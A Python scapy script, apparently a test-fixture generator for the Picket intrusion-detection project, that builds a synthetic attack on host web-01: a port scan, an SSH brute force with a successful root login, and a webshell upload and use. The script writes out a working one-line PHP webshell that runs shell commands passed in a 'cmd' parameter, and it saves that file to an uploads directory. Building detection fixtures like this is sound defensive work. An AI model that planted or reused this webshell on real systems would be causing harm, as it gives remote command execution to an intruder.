#!/usr/bin/python3
"""Generates Picket's demo scenario: one attacker against web-01.

    make_scenario.py OUTDIR [--start EPOCH_SECONDS]

writes OUTDIR/scenario.pcap, OUTDIR/auth.log and OUTDIR/www/uploads/shell.php:
  t+0..3 s     a TCP SYN port scan of 40 ports (nmap-like, window 1024), answered by RSTs and one SYN-ACK
  t+60..78 s   an SSH brute force: six connections to port 22 and six "Failed password" lines in auth.log
  t+120 s      a successful SSH login ("Accepted password")
  t+200 s      a webshell upload over HTTP (POST multipart with PHP code), the file appears in the web root
  t+230 s      the webshell used: GET /uploads/shell.php?cmd=id
Addresses and times match tests/collector/publish/scenario_alerts.cc. Everything is made here (scapy);
nothing is copied from elsewhere.
"""
import argparse
import os
import time

from scapy.all import IP, TCP, Raw, Ether, wrpcap  # noqa: E402

ATTACKER = "203.0.113.50"
SERVER = "10.20.0.10"
A_MAC = "02:00:00:00:00:01"
S_MAC = "02:00:00:00:00:02"


class Conv:
    """A TCP conversation with correct sequence numbers."""

    def __init__(self, pkts, t, sport, dport):
        self.pkts, self.t, self.sport, self.dport = pkts, t, sport, dport
        self.cseq, self.sseq = 1000, 5000

    def _add(self, pkt, dt=0.001):
        self.t += dt
        pkt.time = self.t
        self.pkts.append(pkt)

    def c(self, flags, data=b""):
        p = Ether(src=A_MAC, dst=S_MAC) / IP(src=ATTACKER, dst=SERVER) / TCP(
            sport=self.sport, dport=self.dport, flags=flags, seq=self.cseq, ack=self.sseq, window=64240)
        if data:
            p = p / Raw(load=data)
        self._add(p)
        self.cseq += len(data) + (1 if "S" in flags or "F" in flags else 0)

    def s(self, flags, data=b""):
        p = Ether(src=S_MAC, dst=A_MAC) / IP(src=SERVER, dst=ATTACKER) / TCP(
            sport=self.dport, dport=self.sport, flags=flags, seq=self.sseq, ack=self.cseq, window=65160)
        if data:
            p = p / Raw(load=data)
        self._add(p)
        self.sseq += len(data) + (1 if "S" in flags or "F" in flags else 0)

    def open(self):
        self.c("S")
        self.s("SA")
        self.c("A")

    def close(self):
        self.c("FA")
        self.s("FA")
        self.c("A")


def syslog_time(t):
    return time.strftime("%b %d %H:%M:%S", time.gmtime(t)).replace(" 0", "  ", 1) if time.gmtime(t).tm_mday < 10 \
        else time.strftime("%b %d %H:%M:%S", time.gmtime(t))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("outdir")
    ap.add_argument("--start", type=int, default=1790000000)
    args = ap.parse_args()
    t0 = args.start
    pkts, log = [], []

    # Port scan: SYNs with window 1024 to 40 ports; closed ports answer RST, 22 and 80 answer SYN-ACK.
    ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 1723, 3306, 3389,
             5432, 5900, 6379, 8000, 8080, 8443, 9200, 11211, 27017, 2049, 161, 389, 636, 873, 1080, 3128, 5000,
             5601, 7001, 9000]
    t = t0 + 2.0
    for i, port in enumerate(ports):
        t += 0.02
        syn = Ether(src=A_MAC, dst=S_MAC) / IP(src=ATTACKER, dst=SERVER) / TCP(
            sport=61000, dport=port, flags="S", seq=777 + i, window=1024)
        syn.time = t
        pkts.append(syn)
        ans = TCP(sport=port, dport=61000, flags="SA" if port in (22, 80) else "RA", seq=9000, ack=778 + i)
        reply = Ether(src=S_MAC, dst=A_MAC) / IP(src=SERVER, dst=ATTACKER) / ans
        reply.time = t + 0.0005
        pkts.append(reply)

    # SSH brute force: six sessions, each a banner exchange then a close; auth.log says why.
    for i in range(1, 7):
        ts = t0 + 60 + i * 3
        cv = Conv(pkts, ts, 50000 + i, 22)
        cv.open()
        cv.s("PA", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
        cv.c("PA", b"SSH-2.0-libssh_0.9.6\r\n")
        cv.close()
        log.append(f"{syslog_time(ts)} web-01 sshd[{4100 + i}]: Failed password for root from {ATTACKER} "
                   f"port 5{i}000 ssh2")
    ts = t0 + 120
    cv = Conv(pkts, ts, 52000, 22)
    cv.open()
    cv.s("PA", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
    cv.c("PA", b"SSH-2.0-libssh_0.9.6\r\n")
    log.append(f"{syslog_time(ts)} web-01 sshd[4200]: Accepted password for root from {ATTACKER} port 52000 ssh2")
    log.append(f"{syslog_time(ts)} web-01 sshd[4200]: pam_unix(sshd:session): session opened for user root(uid=0) "
               f"by (uid=0)")

    # Webshell upload over HTTP, then its use.
    shell = b"<?php if (isset($_GET['cmd'])) { system($_GET['cmd']); } ?>\n"
    body = (b"--PKTBOUNDARY\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\n"
            b"Content-Type: application/x-php\r\n\r\n" + shell + b"\r\n--PKTBOUNDARY--\r\n")
    cv = Conv(pkts, t0 + 200, 53000, 80)
    cv.open()
    cv.c("PA", b"POST /upload.php HTTP/1.1\r\nHost: web-01.example.gov\r\nUser-Agent: python-requests/2.31\r\n"
               b"Content-Type: multipart/form-data; boundary=PKTBOUNDARY\r\nContent-Length: "
         + str(len(body)).encode() + b"\r\n\r\n" + body)
    cv.s("PA", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 9\r\n\r\nuploaded\n")
    cv.close()
    cv = Conv(pkts, t0 + 230, 53001, 80)
    cv.open()
    cv.c("PA", b"GET /uploads/shell.php?cmd=id HTTP/1.1\r\nHost: web-01.example.gov\r\n"
               b"User-Agent: python-requests/2.31\r\n\r\n")
    cv.s("PA", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 39\r\n\r\n"
               b"uid=33(www-data) gid=33(www-data) groups\n")
    cv.close()

    os.makedirs(os.path.join(args.outdir, "www", "uploads"), exist_ok=True)
    pkts.sort(key=lambda p: p.time)
    wrpcap(os.path.join(args.outdir, "scenario.pcap"), pkts)
    with open(os.path.join(args.outdir, "auth.log"), "w") as f:
        f.write("\n".join(log) + "\n")
    with open(os.path.join(args.outdir, "www", "uploads", "shell.php"), "wb") as f:
        f.write(shell)
    print(f"{len(pkts)} packets, {len(log)} log lines in {args.outdir}")


if __name__ == "__main__":
    main()
